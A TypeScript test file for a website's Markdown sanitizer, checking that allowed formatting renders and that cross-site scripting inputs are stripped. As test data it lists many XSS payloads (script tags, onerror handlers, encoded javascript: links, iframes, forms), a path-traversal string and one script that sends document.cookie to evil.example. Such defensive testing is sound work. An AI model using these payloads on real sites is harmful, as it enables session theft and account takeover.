import { htmlToText, isSafeHref, renderMarkdown, renderPostBody, summaryFromText } from './markdown';

const IMAGE = '/files/0f8fad5b-d9cb-469f-a165-70867728950e.png';

/** Nothing that can run script or load from elsewhere, whatever the spelling. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<object|<embed|<svg|<math|<style|<form|<input|<meta|<link|<base/i);
  expect(html).not.toMatch(/\son\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(html).not.toMatch(/style=/i);
}

describe('renderMarkdown: the allowed Markdown', () => {
  it('renders headings (a # heading becomes h2: the title is the page h1), emphasis, lists, quotes, code and tables', () => {
    const html = renderMarkdown(
      [
        '# Caring for a garden',
        '',
        'Water **early** and _mulch_ ~~often~~.',
        '',
        '- one',
        '- two',
        '',
        '1. first',
        '',
        '> quoted',
        '',
        '`code`',
        '',
        '| a | b |',
        '|---|---|',
        '| 1 | 2 |',
      ].join('\n'),
    );
    expect(html).toContain('<h2>Caring for a garden</h2>');
    expect(html).toContain('<strong>early</strong>');
    expect(html).toContain('<em>mulch</em>');
    expect(html).toContain('<s>often</s>');
    expect(html).toMatch(/<ul>\s*<li>one<\/li>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>/);
    expect(html).toMatch(/<blockquote>\s*<p>quoted<\/p>/);
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<th>a</th>');
    expect(html).not.toContain('<h1');
  });

  it('opens external links in a new tab without giving the page away; keeps paths of the site as they are', () => {
    const html = renderMarkdown('[Our gardens](/services/3) and [a study](https://example.org/study) or <mailto:info@example.com>');
    expect(html).toContain('<a href="/services/3">Our gardens</a>');
    expect(html).toContain('<a href="https://example.org/study" rel="noopener noreferrer nofollow" target="_blank">a study</a>');
    expect(html).toContain('href="mailto:info@example.com"');
  });

  it('shows pictures uploaded to the site and nothing from elsewhere', () => {
    expect(renderMarkdown(`![A finished garden](${IMAGE})`)).toContain(`<img alt="A finished garden" src="${IMAGE}" />`);
    expect(renderMarkdown('![tracker](https://evil.example/pixel.png)')).toBe('');
    expect(renderMarkdown('![x](/files/../../etc/passwd)')).toBe('');
  });

  it('shows code as text', () => {
    expect(renderMarkdown('```\n<script>alert(1)</script>\n```')).toBe('<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>');
  });
});

describe('renderMarkdown: everything not on the allow-list is removed', () => {
  it.each([
    ['a script tag, with its content', 'Before <script>alert(document.cookie)</script> after', '<p>Before  after</p>'],
    ['a script split to slip past a filter', '<scr<script>ipt>alert(1)</script>', '<p>&lt;scr</p>'],
    ['an image with onerror', '<img src=x onerror=alert(1)>', ''],
    ['an uploaded image with onerror', `<img src="${IMAGE}" onerror="alert(1)">`, `<img src="${IMAGE}" />`],
    ['a paragraph with handlers and style', '<p onclick="steal()" style="background:url(javascript:alert(1))">Hi</p>', '<p>Hi</p>'],
    ['a Markdown javascript: link', '[click me](javascript:alert(1))', '<p>click me</p>'],
    ['a refused link before a kept one (the kept one closes as a link)', '[a](javascript:alert(1)) [h](/x)', '<p>a <a href="/x">h</a></p>'],
    [
      'a kept link inside a refused one, and one after',
      '<a href="javascript:x">a<a href="/y">b</a></a> <a href="/z">c</a>',
      '<p>a<a href="/y">b</a> <a href="/z">c</a></p>',
    ],
    [
      'refused links with attributes of their own',
      '<a title="t" href="javascript:x">a</a><a href="/k" title="k">k</a>',
      '<p>a<a title="k" href="/k">k</a></p>',
    ],
    ['an HTML javascript: link', '<a href="javascript:alert(1)">click me</a>', '<p>click me</p>'],
    ['upper case', '<a href="JaVaScRiPt:alert(1)">x</a>', '<p>x</p>'],
    ['entity-encoded', '<a href="&#106;&#97;vascript&#58;alert(1)">x</a>', '<p>x</p>'],
    ['hex entities', '<a href="&#x6A;avascript:alert(1)">x</a>', '<p>x</p>'],
    ['a tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>', '<p>x</p>'],
    ['a newline entity inside the scheme', '<a href="java&#10;script:alert(1)">x</a>', '<p>x</p>'],
    ['leading spaces', '<a href="   javascript:alert(1)">x</a>', '<p>x</p>'],
    ['vbscript', '<a href="vbscript:msgbox(1)">x</a>', '<p>x</p>'],
    ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '<p>x</p>'],
    ['a data: image', '![x](data:image/png;base64,iVBORw0KGgo=)', ''],
    ['an HTML data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', ''],
    ['a protocol-relative link', '<a href="//evil.example">x</a>', '<p>x</p>'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>', ''],
    ['svg with onload', '<svg onload="alert(1)"><circle r="4"/></svg>', ''],
    ['a style block', '<style>body{display:none}</style>Text', 'Text'],
    ['a form', '<form action="https://evil.example"><input name="password"></form>', ''],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
    ['an object', '<object data="https://evil.example/x.swf"></object>', ''],
    ['a base tag', '<base href="https://evil.example/">', ''],
    ['a div with a class', '<div class="x" id="y">Text</div>', 'Text'],
    [
      'an attribute-breaking title',
      '<a href="/x" title=\'"><script>alert(1)</script>\'>x</a>',
      '<p><a title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" href="/x">x</a></p>',
    ],
  ])('%s', (_name, source, expected) => {
    const html = renderMarkdown(source);
    expect(html).toBe(expected);
    expectInert(html.replace(/title="[^"]*"/g, ''));
  });

  it("a body with <script>, onerror= and javascript: links renders none of them (the issue's case)", () => {
    const html = renderMarkdown(
      [
        '## Tips',
        '',
        'Read on.<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        '',
        `<img src="${IMAGE}" onerror="alert('x')" alt="garden">`,
        '',
        '[Book now](javascript:alert(1)) or <a href="javascript:void(0)" onmouseover="alert(1)">call us</a>',
      ].join('\n'),
    );
    expectInert(html);
    expect(html).not.toContain('fetch(');
    expect(html).toContain('<h2>Tips</h2>');
    expect(html).toContain('Book now');
    expect(html).toContain('call us');
    expect(html).toContain(`src="${IMAGE}"`);
  });

  it('judges link addresses the way a browser reads them', () => {
    expect(isSafeHref('https://example.com')).toBe(true);
    expect(isSafeHref('/services/1')).toBe(true);
    expect(isSafeHref('#section')).toBe(true);
    expect(isSafeHref('tel:+966500000000')).toBe(true);
    expect(isSafeHref('//evil.example')).toBe(false);
    expect(isSafeHref('/\\evil.example')).toBe(false);
    expect(isSafeHref('java\nscript:alert(1)')).toBe(false);
    expect(isSafeHref('\u0000javascript:alert(1)')).toBe(false);
    expect(isSafeHref('relative/path')).toBe(false);
  });
});

describe('renderPostBody', () => {
  it('gives the text and a reading time of at least one minute, by language', () => {
    const short = renderPostBody('Hello **world**', 'en');
    expect(short.text).toBe('Hello world');
    expect(short.readingMinutes).toBe(1);
    const words = Array.from({ length: 920 }, (_, i) => `word${i}`).join(' ');
    expect(renderPostBody(words, 'en').readingMinutes).toBe(4);
    expect(renderPostBody(words, 'ar').readingMinutes).toBe(6);
  });

  it('keeps entities readable in the text', () => {
    expect(htmlToText(renderMarkdown('Tom &amp; Jerry: 3 < 4'))).toBe('Tom & Jerry: 3 < 4');
  });
});

describe('summaryFromText', () => {
  it('cuts at a word boundary with an ellipsis', () => {
    expect(summaryFromText('short text')).toBe('short text');
    const long = 'word '.repeat(100).trim();
    const summary = summaryFromText(long, 50);
    expect(summary.length).toBeLessThanOrEqual(51);
    expect(summary.endsWith('word…')).toBe(true);
  });
});
